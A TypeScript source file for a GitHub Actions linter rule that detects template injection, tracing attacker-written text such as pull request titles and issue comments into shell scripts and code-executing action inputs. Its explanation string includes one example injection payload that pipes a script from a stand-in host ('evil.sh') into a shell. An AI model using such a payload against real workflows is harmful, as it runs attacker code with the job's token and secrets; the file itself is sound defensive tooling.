import type { Finding } from '@paved-road/core';
import {
  effectiveShell,
  expressionValueContexts,
  findExpressions,
  parseShell,
  writeRedirects,
  withScript,
  type Job,
  type KeyValue,
  type RunScript,
  type Step,
  type WorkflowFile,
} from '@paved-road/workflows';
import { at, envLayers, hasOutsiderTrigger, lookupEnv, parseUses, rule } from './common.js';

export const templateInjectionRule = rule({
  id: 'template-injection',
  // Runs attacker text as code with the job's token and secrets: critical, above the 7.5 of other errors.
  securitySeverity: 9.0,
  title: 'Attacker-controllable text is expanded into code',
  severity: 'error',
  why:
    '`${{ }}` is replaced by its value before the shell (or the script) runs, so the value becomes code. A pull request ' +
    'title, a branch name or an issue comment is written by whoever opens it: `"; curl evil.sh | sh; #` in a title runs ' +
    "with the job's token and secrets. Reported as an error when the text comes from an event outsiders can start " +
    '(pull requests, issues, comments, workflow_run, ...), and as a warning when it comes from a string input of ' +
    'workflow_dispatch, workflow_call or a composite action, or from an event only collaborators start (push). ' +
    'SHAs, ids, numbers, step outcomes, job results, boolean, number and choice inputs cannot carry code and are not reported. ' +
    'Text a `run:` step writes to `$GITHUB_OUTPUT` or `$GITHUB_ENV` is followed: `${{ steps.<id>.outputs.<name> }}`, ' +
    '`${{ needs.<job>.outputs.<name> }}` (through job outputs) and `${{ env.NAME }}` of later steps carry it; outputs of actions ' +
    '(ids, SHAs, URLs) are not reported. `${{ matrix.<key> }}` carries the text of the matrix values written with `${{ }}` ' +
    '(an entry, `include:`, or a matrix built with `fromJSON(...)` of a job output or an input); literal entries are clean. ' +
    'Besides `run:`, the inputs of actions that run their value as code are checked (actions/github-script `script`, ' +
    "Amadevus/pwsh-script `script`, mikefarah/yq `cmd`, and the other sinks of CodeQL's Actions models).",
  fix:
    'Pass the value to the step through `env:` and use the variable, quoted, in the script (`"$TITLE"`; `process.env.TITLE` ' +
    'in actions/github-script). The shell then treats it as data.',
  before: [
    'on: issues',
    'jobs:',
    '  triage:',
    '    runs-on: ubuntu-latest',
    '    steps:',
    '      - run: echo "${{ github.event.issue.title }}"',
  ].join('\n'),
  after: [
    'on: issues',
    'jobs:',
    '  triage:',
    '    runs-on: ubuntu-latest',
    '    steps:',
    '      - env:',
    '          TITLE: ${{ github.event.issue.title }}',
    '        run: echo "$TITLE"',
  ].join('\n'),
});

/**
 * Inputs of well-known actions whose value is executed as code (a script, a shell command line, a
 * JavaScript or jq expression, a template the action evaluates), by action (`owner/repo`, lower-case).
 * Besides the script runners, the list holds the sinks of CodeQL's Actions models.
 */
export const CODE_INPUTS: Readonly<Record<string, readonly string[]>> = {
  'actions/github-script': ['script'],
  'amadevus/pwsh-script': ['script'],
  'cardinalby/js-eval-action': ['expression'],
  'azure/cli': ['inlinescript'],
  'azure/powershell': ['inlinescript'],
  'appleboy/ssh-action': ['script'],
  'nick-fields/retry': ['command'],
  'nick-invision/retry': ['command'],
  'wandalen/wretry.action': ['command'],
  // `options` is pasted into the `docker run` command line, `run` is the container's shell script.
  'addnab/docker-run-action': ['run', 'options'],
  'mikefarah/yq': ['cmd'],
  'devorbitus/yq-action-output': ['cmd'],
  'sergeysova/jq-action': ['cmd'],
  'jannekem/run-python-script-action': ['script'],
  'cypress-io/github-action': ['command', 'build', 'start'],
  'google-github-actions/ssh-compute': ['command'],
  // These evaluate the input as JavaScript (eval, template literals, lodash templates).
  '8398a7/action-slack': ['custom_payload'],
  'gautamkrishnar/blog-post-workflow': ['item_exec'],
  'skitionek/notify-microsoft-teams': ['overwrite'],
  'imjohnbo/issue-bot': ['body', 'linked-comments-previous-issue-text', 'linked-comments-new-issue-text'],
  'roots/issue-closer-action': ['issue-close-message', 'pr-close-message'],
  'lucasbento/auto-close-issues': ['issue-close-message'],
  'tibdex/backport': ['body_template', 'head_template', 'labels_template', 'title_template'],
};

/** How the code an action runs reads an environment variable, for actions whose language is not a POSIX shell. */
const ENV_READS: Readonly<Record<string, (name: string) => string>> = {
  'actions/github-script': (n) => `process.env.${n}`,
  'cardinalby/js-eval-action': (n) => `process.env.${n}`,
  'amadevus/pwsh-script': (n) => `$env:${n}`,
  'azure/powershell': (n) => `$env:${n}`,
  'jannekem/run-python-script-action': (n) => `os.environ["${n}"]`,
};

/** Event fields that carry free text someone outside the project writes (leaf names). */
const TEXT_FIELDS = new Set([
  'title',
  'body',
  'message',
  'email',
  'head_ref',
  'head_branch',
  'label',
  'description',
  'display_title',
  'page_name',
  'default_branch',
]);

/** Event objects that contain such text: serialising one (`toJSON(github.event.issue)`) carries it too. */
const TEXT_OBJECTS = new Set([
  'github',
  'event',
  'pull_request',
  'issue',
  'comment',
  'review',
  'review_comment',
  'discussion',
  'commits',
  'head_commit',
  'pages',
  'workflow_run',
  'head',
  'labels',
  'author',
  'committer',
  'pusher',
  'pull_requests',
  'client_payload',
  '*',
]);

export type Source =
  /** Free text from the event: an outsider may write it (depending on the trigger). */
  | { kind: 'event'; path: string }
  /** A string input: whoever dispatches or calls the workflow (or uses the action) chooses it. */
  | { kind: 'input'; path: string };

/** Where attacker text comes from, and the path it took to get here (`env.TITLE`, `steps.meta.outputs.title`). */
export interface Taint {
  source: Source;
  via?: string;
}

interface Scope {
  wf: WorkflowFile;
  /** Workflow, job and (when in a step) step env, innermost last. */
  envLayers: readonly KeyValue[][];
  /** True when the innermost layer is the step's own `env:`. */
  inStep?: boolean;
  /** What earlier steps of the job wrote to GITHUB_OUTPUT and GITHUB_ENV. */
  flows?: JobFlows;
  /** Steps before this index are "earlier". */
  before?: number;
  /** The tainted outputs of another job (`needs.<job>.outputs.<name>`). */
  needs?: (job: string, output: string) => Taint | undefined;
  /** The job's `strategy.matrix` (plain data; a string is an expression). */
  matrix?: unknown;
}

/**
 * What a job's `run:` steps write to GITHUB_OUTPUT (step outputs) and GITHUB_ENV (env of later steps),
 * when the value written carries attacker text. Only writes read from the script by the shell parser
 * count: outputs of `uses:` steps are not followed (known actions' outputs are ids, SHAs, URLs).
 */
export class JobFlows {
  /** `<step id>.<output>` (lower-case) → the step index that wrote it and its taint. */
  private readonly outputs = new Map<string, { index: number; taint: Taint }>();
  /** Variable → every tainted write, in step order. */
  private readonly env = new Map<string, Array<{ index: number; taint: Taint }>>();

  addOutput(stepId: string, name: string, index: number, taint: Taint): void {
    const key = `${stepId}.${name}`.toLowerCase();
    if (!this.outputs.has(key)) this.outputs.set(key, { index, taint });
  }

  addEnv(name: string, index: number, taint: Taint): void {
    const list = this.env.get(name) ?? [];
    list.push({ index, taint });
    this.env.set(name, list);
  }

  output(stepId: string, name: string, before: number): Taint | undefined {
    const entry = this.outputs.get(`${stepId}.${name}`.toLowerCase());
    return entry && entry.index < before ? entry.taint : undefined;
  }

  /** Variables some step writes to GITHUB_ENV with attacker text. */
  envNames(): IterableIterator<string> {
    return this.env.keys();
  }

  envVar(name: string, before: number): Taint | undefined {
    return this.env.get(name)?.find((entry) => entry.index < before)?.taint;
  }
}

/**
 * Why a context path can carry attacker-written text, or undefined when it cannot (structured and
 * fixed values: SHAs, ids, numbers, `steps.*.outcome`, `needs.*.result`, `github.repository`,
 * boolean / number / choice inputs) or when its origin is not visible in the file (outputs of actions).
 * Step outputs, job outputs and GITHUB_ENV variables written by `run:` steps are followed through
 * `scope.flows` and `scope.needs`; `matrix.*` through the job's matrix (see matrixTaint).
 */
export function attackerSource(path: string, scope: Scope, seen: Set<string> = new Set()): Taint | undefined {
  const root = path.split('.')[0];
  if (root === 'github') {
    // Property names of contexts are case-insensitive.
    path = path.toLowerCase();
    const segments = path.split('.');
    if (path === 'github.head_ref') return { source: { kind: 'event', path } };
    if (segments[1] !== undefined && segments[1] !== 'event') return undefined;
    if (segments[2] === 'inputs' && segments.length > 3) return inputSource(scope.wf, segments[3]!, path);
    if (segments[2] === 'client_payload') return { source: { kind: 'event', path } };
    const last = segments[segments.length - 1]!;
    const parent = segments[segments.length - 2];
    if (TEXT_FIELDS.has(last)) return { source: { kind: 'event', path } };
    if (
      last === 'name' &&
      parent !== undefined &&
      ['author', 'committer', 'pusher', 'label', 'labels', '*', 'head_commit', 'workflow_run'].includes(parent)
    ) {
      // `labels.*.name` is a label; `*.name` under commits is an author name. `repository.name` is not here.
      if (parent !== '*' || segments.includes('labels') || segments.includes('commits') || segments.includes('pages'))
        return { source: { kind: 'event', path } };
    }
    if (last === 'ref' && parent === 'head') return { source: { kind: 'event', path } };
    if (TEXT_OBJECTS.has(last)) return { source: { kind: 'event', path } };
    return undefined;
  }
  const segments = path.split('.');
  if (root === 'inputs' && segments.length > 1) return inputSource(scope.wf, segments[1]!, path);
  if (root === 'env' && segments.length > 1) {
    const name = segments[1]!;
    if (seen.has(name)) return undefined;
    seen.add(name);
    const layers = scope.envLayers;
    const stepEntry = scope.inStep ? lookupEnv([layers[layers.length - 1]!], name) : undefined;
    // A step's own env: wins; otherwise a GITHUB_ENV write of an earlier step may have set it.
    if (!stepEntry) {
      const written = scope.flows?.envVar(name, scope.before ?? Infinity);
      if (written)
        return {
          source: written.source,
          via: `env.${name} (written to GITHUB_ENV${written.via ? ` from ${written.via}` : ''})`,
        };
    }
    const entry = stepEntry ?? lookupEnv(layers, name);
    if (!entry) return undefined;
    const taint = taintOfText(entry.value.value, scope, seen);
    if (taint) return { source: taint.source, via: `env.${name}` };
    return undefined;
  }
  if (root === 'steps' && segments.length === 4 && segments[2] === 'outputs') {
    const written = scope.flows?.output(segments[1]!, segments[3]!, scope.before ?? Infinity);
    if (written) return { source: written.source, via: `${path}${written.via ? ` (from ${written.via})` : ''}` };
    return undefined;
  }
  if (root === 'needs' && segments.length === 4 && segments[2] === 'outputs') {
    const written = scope.needs?.(segments[1]!, segments[3]!);
    if (written) return { source: written.source, via: `${path}${written.via ? ` (from ${written.via})` : ''}` };
    return undefined;
  }
  if (root === 'matrix') {
    const taint = matrixTaint(scope, segments.slice(1));
    if (taint) return { source: taint.source, via: `${path}${taint.via ? ` (from ${taint.via})` : ''}` };
    return undefined;
  }
  return undefined;
}

/**
 * The taint of `matrix.<segments>`: the values the job's matrix can give it, with `include:` entries.
 * Literal values are clean; a value written with `${{ }}` (one entry, a whole key's list, `include:`,
 * or the whole matrix, typically `fromJSON(needs.<job>.outputs.<name>)`) carries the taint of its
 * expression. Strategy expressions see `github`, `needs`, `vars` and `inputs` only, so they are read
 * without the step's env or earlier steps' outputs.
 */
function matrixTaint(scope: Scope, segments: readonly string[]): Taint | undefined {
  const matrix = scope.matrix;
  if (matrix === undefined || matrix === null) return undefined;
  const jobScope: Scope = { wf: scope.wf, envLayers: [], ...(scope.needs ? { needs: scope.needs } : {}) };
  const [key, ...rest] = segments;
  if (typeof matrix === 'string' || key === undefined) return valueTaint(matrix, rest, jobScope);
  if (typeof matrix !== 'object' || Array.isArray(matrix)) return undefined;
  const candidates: unknown[] = [];
  for (const [name, value] of Object.entries(matrix as Record<string, unknown>)) {
    const lower = name.toLowerCase();
    if (lower === 'exclude') continue;
    if (lower === 'include') {
      // `include:` is a list of objects (or an expression giving one): each may set the key.
      if (!Array.isArray(value)) candidates.push(value);
      else for (const entry of value) candidates.push(isPlainObject(entry) ? field(entry, key) : entry);
    } else if (lower === key.toLowerCase()) {
      if (Array.isArray(value)) candidates.push(...value);
      else candidates.push(value);
    }
  }
  for (const candidate of candidates) {
    const taint = valueTaint(candidate, rest, jobScope);
    if (taint) return taint;
  }
  return undefined;
}

/** The taint of one matrix value read at `segments` below it: its strings' expressions. */
function valueTaint(value: unknown, segments: readonly string[], scope: Scope): Taint | undefined {
  if (typeof value === 'string') return taintOfText(value, scope);
  if (Array.isArray(value)) {
    for (const item of value) {
      const taint = valueTaint(item, segments, scope);
      if (taint) return taint;
    }
    return undefined;
  }
  if (!isPlainObject(value)) return undefined;
  const [key, ...rest] = segments;
  if (key !== undefined) return valueTaint(field(value, key), rest, scope);
  for (const item of Object.values(value)) {
    const taint = valueTaint(item, [], scope);
    if (taint) return taint;
  }
  return undefined;
}

function isPlainObject(value: unknown): value is Record<string, unknown> {
  return typeof value === 'object' && value !== null && !Array.isArray(value);
}

/** A property of a matrix object (context property names are case-insensitive). */
function field(object: Record<string, unknown>, key: string): unknown {
  const lower = key.toLowerCase();
  for (const [name, value] of Object.entries(object)) if (name.toLowerCase() === lower) return value;
  return undefined;
}

/** The first attacker source among the `${{ }}` expressions of a text (an env value, a job output). */
function taintOfText(text: string, scope: Scope, seen: Set<string> = new Set()): Taint | undefined {
  for (const found of findExpressions(text)) {
    for (const inner of expressionValueContexts(found.expression)) {
      const source = attackerSource(inner, scope, seen);
      if (source) return source;
    }
  }
  return undefined;
}

function inputSource(wf: WorkflowFile, name: string, path: string): { source: Source } | undefined {
  const declared = [...wf.triggers.flatMap((t) => t.inputs), ...(wf.action?.inputs ?? [])].filter(
    (input) => input.name.toLowerCase() === name.toLowerCase(),
  );
  // Undeclared inputs are unknown strings; declared ones carry text only when some declaration is a string.
  if (declared.length && declared.every((input) => input.type !== 'string')) return undefined;
  return { source: { kind: 'input', path } };
}

/** A variable name for the suggested env: entry (`github.event.issue.title` → ISSUE_TITLE). */
export function suggestedVariable(path: string): string {
  const parts = path
    .split('.')
    .filter((part) => part !== 'github' && part !== 'event' && part !== '*' && part !== 'env' && part !== 'inputs');
  const name = parts
    .slice(-2)
    .join('_')
    .replace(/[^A-Za-z0-9]+/g, '_')
    .toUpperCase();
  return name || 'VALUE';
}

interface Target {
  script: RunScript;
  /** `run` or `<action> <input>`. */
  what: string;
  /** How the script reads an env variable. */
  reads: (name: string) => string;
}

function targets(wf: WorkflowFile, job: Job, step: Step): Target[] {
  const out: Target[] = [];
  if (step.run) {
    const shell = (effectiveShell(wf, job, step) ?? '').toLowerCase();
    const reads =
      shell.startsWith('pwsh') || shell.startsWith('powershell')
        ? (n: string) => `$env:${n}`
        : shell === 'cmd'
          ? (n: string) => `%${n}%`
          : (n: string) => `"$${n}"`;
    out.push({ script: step.run, what: 'the run script', reads });
  }
  if (step.uses) {
    const uses = parseUses(step.uses.value);
    const inputs = CODE_INPUTS[uses.name];
    if (inputs) {
      for (const [name] of step.with) {
        if (!inputs.includes(name.toLowerCase())) continue;
        const script = withScript(wf, step, name);
        if (!script) continue;
        const reads = ENV_READS[uses.name] ?? ((n: string) => `"$${n}"`);
        out.push({ script, what: `the ${name} input of ${uses.name}`, reads });
      }
    }
  }
  return out;
}

export function auditTemplateInjection(wf: WorkflowFile): Finding[] {
  const findings: Finding[] = [];
  const outsiders = hasOutsiderTrigger(wf);
  const flows = new Map<string, JobFlows>();
  const jobOutputs = jobOutputTaint(wf, flows);
  for (const job of wf.jobs) {
    const jobFlows = flowsOf(wf, job, flows, jobOutputs);
    job.steps.forEach((step, position) => {
      const scope: Scope = {
        wf,
        envLayers: envLayers(wf, job, step),
        inStep: true,
        flows: jobFlows,
        before: position,
        needs: jobOutputs,
        matrix: job.matrix?.value,
      };
      for (const target of targets(wf, job, step)) {
        for (const found of findExpressions(target.script.text, target.script.offsetToPosition)) {
          const finding = injectionFinding(wf, job, step, target, found, scope, outsiders);
          if (finding) findings.push(finding);
        }
      }
    });
  }
  return findings;
}

/** `needs.<job>.outputs.<name>` → the taint of that job output, computed once per job (cycles read nothing). */
function jobOutputTaint(
  wf: WorkflowFile,
  flows: Map<string, JobFlows>,
): (job: string, output: string) => Taint | undefined {
  const visiting = new Set<string>();
  const memo = new Map<string, Taint | undefined>();
  const lookup = (jobId: string, output: string): Taint | undefined => {
    const key = `${jobId}.${output}`.toLowerCase();
    if (memo.has(key)) return memo.get(key);
    const job = wf.jobs.find((j) => j.id.toLowerCase() === jobId.toLowerCase());
    const entry = job?.outputs?.find((o) => o.name.toLowerCase() === output.toLowerCase());
    if (!job || !entry || visiting.has(job.id)) return undefined;
    visiting.add(job.id);
    const scope: Scope = {
      wf,
      envLayers: envLayers(wf, job),
      flows: flowsOf(wf, job, flows, lookup),
      before: Infinity,
      needs: lookup,
      matrix: job.matrix?.value,
    };
    const taint = taintOfText(entry.value.value, scope);
    visiting.delete(job.id);
    memo.set(key, taint);
    return taint;
  };
  return lookup;
}

/** The job's GITHUB_OUTPUT / GITHUB_ENV writes of attacker text, step by step (computed once per job). */
function flowsOf(
  wf: WorkflowFile,
  job: Job,
  cache: Map<string, JobFlows>,
  needs: (job: string, output: string) => Taint | undefined,
): JobFlows {
  const cached = cache.get(job.id);
  if (cached) return cached;
  const flows = new JobFlows();
  cache.set(job.id, flows);
  job.steps.forEach((step, position) => {
    if (!step.run || !/GITHUB_(OUTPUT|ENV)/.test(step.run.text)) return;
    const shell = (effectiveShell(wf, job, step) ?? 'bash').trim().toLowerCase();
    if (!/^(bash|sh)(\s|$)/.test(shell)) return;
    const scope: Scope = {
      wf,
      envLayers: envLayers(wf, job, step),
      inStep: true,
      flows,
      before: position,
      needs,
      matrix: job.matrix?.value,
    };
    // A write carries attacker text only through an expression or a variable of the step's env: when
    // the script has no such expression and no such variable is in scope, nothing it writes can (no parse).
    const envNames = new Set([...scope.envLayers.flatMap((layer) => layer.map((kv) => kv.name)), ...flows.envNames()]);
    if (!taintOfText(step.run.text, scope) && ![...envNames].some((name) => attackerSource(`env.${name}`, scope)))
      return;
    for (const write of commandFileWrites(step.run.text, shell.startsWith('sh'))) {
      const taint = taintOfWrite(write.value, scope);
      if (!taint) continue;
      if (write.file === 'GITHUB_OUTPUT') {
        if (step.id) flows.addOutput(step.id, write.name, position, taint);
      } else {
        flows.addEnv(write.name, position, taint);
      }
    }
  });
  return flows;
}

/** The taint of a value as written in a shell script: `${{ }}` expressions, and `$VAR` of a tainted env. */
function taintOfWrite(raw: string, scope: Scope): Taint | undefined {
  const fromExpression = taintOfText(raw, scope);
  if (fromExpression) return fromExpression;
  // Shell variables expand outside single quotes; GitHub's ${{ }} were read above.
  const unquoted = raw.replace(/\$\{\{[\s\S]*?\}\}/g, '').replace(/'[^']*'/g, '');
  for (const match of unquoted.matchAll(/\$\{?([A-Za-z_][A-Za-z0-9_]*)/g)) {
    const taint = attackerSource(`env.${match[1]!}`, scope);
    if (taint) return taint;
  }
  return undefined;
}

export interface CommandFileWrite {
  file: 'GITHUB_OUTPUT' | 'GITHUB_ENV';
  /** The output or variable name. */
  name: string;
  /** The value as written in the script (quotes, variables and expressions kept). */
  value: string;
}

const COMMAND_FILE = /\bGITHUB_(OUTPUT|ENV)\b/;

/**
 * `name=value` lines a bash / sh script writes to GITHUB_OUTPUT or GITHUB_ENV, found with the shell
 * parser: `echo` / `printf` redirected (`>>`, `>`) to the file, or piped into `tee` naming it, and the
 * multi-line form (`echo "name<<EOF"`, the value lines, `echo EOF`). A script that does not parse has
 * those of the lines that do (see ShellParse.partial).
 */
export function commandFileWrites(script: string, posix = false): CommandFileWrite[] {
  const parsed = parseShell(script, { posix });
  // A syntax error on one line leaves the writes of the lines that parsed (bash runs those).
  if (!parsed.ok && !parsed.partial) return [];
  const out: CommandFileWrite[] = [];
  const pending = new Map<string, { name: string; delimiter: string; value: string[] }>();
  for (const command of parsed.commands) {
    let file: CommandFileWrite['file'] | undefined;
    let writer = command;
    for (const redirect of writeRedirects(command)) {
      const match = COMMAND_FILE.exec(redirect.target.raw);
      if (match) file = `GITHUB_${match[1]}` as CommandFileWrite['file'];
    }
    if (!file && command.argv[0]?.literal === 'tee' && command.pipeline && command.pipeline.stage > 0) {
      const match = command.argv
        .slice(1)
        .map((word) => COMMAND_FILE.exec(word.raw))
        .find(Boolean);
      const previous = parsed.pipelines[command.pipeline.index]?.stages[command.pipeline.stage - 1];
      if (match && previous !== undefined && previous !== null) {
        file = `GITHUB_${match[1]}` as CommandFileWrite['file'];
        writer = parsed.commands[previous]!;
      }
    }
    if (!file) continue;
    const name = writer.argv[0]?.literal;
    if (name !== 'echo' && name !== 'printf') continue;
    const words = writer.argv.slice(1);
    while (name === 'echo' && words[0]?.literal && /^-[neE]+$/.test(words[0].literal)) words.shift();
    if (!words.length) continue;
    const raw = words.map((word) => word.raw).join(' ');
    const text = words[0]!.text;
    const open = pending.get(file);
    if (open) {
      if (text === open.delimiter && words.length === 1) {
        out.push({ file, name: open.name, value: open.value.join('\n') });
        pending.delete(file);
      } else {
        open.value.push(raw);
      }
      continue;
    }
    const heredoc = /^([A-Za-z_][A-Za-z0-9_.-]*)<<([^\s=]+)$/.exec(text);
    if (heredoc) {
      pending.set(file, { name: heredoc[1]!, delimiter: heredoc[2]!, value: [] });
      continue;
    }
    const eq = text.indexOf('=');
    if (eq <= 0 || !/^[A-Za-z_][A-Za-z0-9_.-]*$/.test(text.slice(0, eq))) continue;
    // The value with its quoting kept: `'name=$X'` → `'$X'` (single quotes: no expansion).
    const prefix = text.slice(0, eq + 1);
    const at = raw.indexOf(prefix);
    out.push({
      file,
      name: text.slice(0, eq),
      value: at === -1 ? raw.slice(raw.indexOf('=') + 1) : raw.slice(0, at) + raw.slice(at + prefix.length),
    });
  }
  // An unterminated multi-line value still reached the file.
  for (const [file, open] of pending)
    out.push({ file: file as CommandFileWrite['file'], name: open.name, value: open.value.join('\n') });
  return out;
}

function injectionFinding(
  wf: WorkflowFile,
  job: Job,
  step: Step,
  target: Target,
  found: ReturnType<typeof findExpressions>[number],
  scope: Scope,
  outsiders: boolean,
): Finding | undefined {
  const sources: Array<{ path: string; source: Source; via?: string }> = [];
  // Only contexts whose text reaches the value: `contains(github.event.issue.title, 'x')` pastes a boolean.
  for (const path of expressionValueContexts(found.expression)) {
    const source = attackerSource(path, scope);
    if (source) sources.push({ path, ...source });
  }
  if (!sources.length) return undefined;
  const fromEvent = sources.find((s) => s.source.kind === 'event');
  const first = fromEvent ?? sources[0]!;
  const severity = fromEvent && outsiders && !wf.action ? 'error' : 'warning';
  const origin = first.via ? `${first.via}, set from ${first.source.path}` : first.source.path;
  const who =
    first.source.kind === 'input'
      ? wf.kind === 'action'
        ? 'any workflow using this action chooses it'
        : 'whoever dispatches or calls the workflow chooses it'
      : severity === 'error'
        ? 'anyone who can open a pull request, issue or comment can write it'
        : 'its author controls it';
  const variable = suggestedVariable(first.via ? first.path : first.source.path);
  const message =
    `\${{ ${found.expression} }} is expanded into ${target.what} before it runs, and ${origin} is free text (${who}): ` +
    `it can inject code. Pass it through env: (${variable}: \${{ ${found.expression} }}) and use ${target.reads(variable)} instead.`;
  return {
    ...at(
      wf,
      templateInjectionRule,
      { line: found.line!, column: found.column!, endLine: found.endLine!, endColumn: found.endColumn! },
      message,
      { job, step },
    ),
    severity,
  };
}
